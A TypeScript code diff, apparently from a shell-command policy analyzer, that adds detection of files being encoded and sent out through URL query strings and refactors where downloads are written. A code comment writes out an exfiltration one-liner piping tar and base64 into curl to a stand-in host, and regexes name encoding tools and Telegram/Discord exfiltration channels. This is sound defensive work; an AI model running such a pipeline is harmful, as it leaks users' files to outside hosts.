@@ -3,6 +3,7 @@ import { type Address, address_of, is_near } from '#core/policy/effects/address.
 import { type Call, prints, reach, reach_address, touch, value } from '#core/policy/effects/call.ts'
 import { set_field } from '#core/policy/effects/collector.ts'
 import { UNKNOWN } from '#core/policy/effects/path.ts'
+import { fan_of } from '#core/policy/effects/specs/fed.ts'
 import { is_misdirected, is_secret_variable } from '#core/policy/effects/specs/payload.ts'
 import type { Word } from '#core/policy/parse/tree.ts'
 
@@ -14,7 +15,12 @@ export function fetches(call: Call, word: Word, fields: Record<string, string | 
   reach(call, 'net.fetch', word, fields)
   if (fields.to_file !== true && fields.method !== 'HEAD') prints(call, 'net')
   leaks_in_url(call, word)
+  // `tar c src | base64 | xargs -I{} curl "https://host/?d={}"`: files leave in addresses.
+  if (call.command.open_args && ENCODES.test(fan_of(call) ?? ''))
+    reach(call, 'net.send', word, { method: 'GET', source: 'stdin', with_data: true })
 }
+
+const ENCODES = /(?:^|\| )(?:tar|base64|base32|xxd|od|hexdump|gzip|openssl)\s/
 
 /** Services by which a bot writes to whoever made it. */
 const CHAT_API = /^(?:api\.telegram\.org|discord(?:app)?\.com)$/
@@ -82,14 +88,14 @@ export function base_name(url: string): string {
   return /\/([^/?#]+)(?:[?#].*)?$/.exec(url.replace(/^[a-z]+:\/\/[^/]*/i, ''))?.[1] ?? 'index.html'
 }
 
+/** A file name in the folder that downloads go to, when there is one. */
+export function placed(call: Call, word: Word): Word {
+  const folder = value(call, 'folder')
+  return folder === null || /^[~/]/.test(word.text) ? word : { ...word, text: `${folder.text}/${word.text}` }
+}
+
 /** Writes the file that a download is named after. */
 export function downloads(call: Call, word: Word): void {
-  const folder = value(call, 'folder')
-  const name = base_name(word.text)
-  touch(
-    call,
-    'fs.write',
-    { ...word, text: folder === null ? name : `${folder.text}/${name}`, cert: 'literal' },
-    { mode: 'truncate', downloaded: true },
-  )
+  const named: Word = { ...word, text: base_name(word.text), cert: 'literal' }
+  touch(call, 'fs.write', placed(call, named), { mode: 'truncate', downloaded: true })
 }
